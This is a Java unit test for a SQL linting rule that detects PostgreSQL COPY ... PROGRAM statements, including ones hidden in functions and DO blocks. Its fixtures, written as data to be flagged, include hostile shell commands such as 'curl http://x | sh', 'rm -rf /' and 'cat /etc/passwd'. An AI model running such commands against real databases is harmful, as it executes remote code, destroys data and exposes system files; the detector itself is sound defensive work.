package dev.airlock.core.rules;

import org.junit.jupiter.api.Test;

class CopyProgramTest {
  private final RuleTester tester = RuleTester.forRule("copy-program");

  @Test
  void copyProgramIsFound() {
    tester.expect(
        """
        -- FINDING: runs shell command `curl http://x | sh` on the database server
        COPY t FROM PROGRAM 'curl http://x | sh';
        -- FINDING: runs shell command `gzip > /tmp/x.gz`
        copy t to program 'gzip > /tmp/x.gz';
        -- FINDING: runs shell command `rm -rf /`
        COPY (SELECT 1) TO PROGRAM $$rm -rf /$$;
        -- FINDING: runs shell command `x`
        COPY t FROM PROGRAM 'x' WITH (FORMAT csv);
        -- FINDING: runs shell command `id`
        COPY s."T" (a, b)
          FROM PROGRAM 'id'
          WITH (FORMAT text);
        -- FINDING: runs shell command `it's`
        COPY t FROM PROGRAM E'it\\'s';
        """);
  }

  @Test
  void psqlClientCopyWithProgramIsFound() {
    tester.expect(
        """
        -- FINDING: runs shell command `cat /etc/passwd` on the machine running psql
        \\copy t from program 'cat /etc/passwd'
        -- FINDING: runs shell command `gzip > out.gz`
        \\copy (SELECT * FROM t) TO PROGRAM 'gzip > out.gz' WITH CSV
        \\copy t from '/tmp/x'
        """);
  }

  @Test
  void copyProgramInsideBodiesIsFound() {
    tester.expect(
        """
        CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$
        BEGIN
          -- FINDING: runs shell command `id` on the database server (inside function `pwn`)
          COPY t FROM PROGRAM 'id';
        END $$;
        -- FINDING: runs shell command `id` on the database server (inside DO block, EXECUTE)
        DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$;
        """);
  }

  @Test
  void copiesWithoutProgramAreNotFound() {
    tester.expect(
        """
        COPY t FROM STDIN;
        COPY t TO STDOUT WITH (FORMAT csv);
        COPY t TO '/tmp/x.csv';
        COPY t (program) FROM STDIN;
        SELECT 'COPY t FROM PROGRAM ''x''';
        -- COPY t FROM PROGRAM 'x';
        CREATE TABLE program (id int);
        """);
  }
}
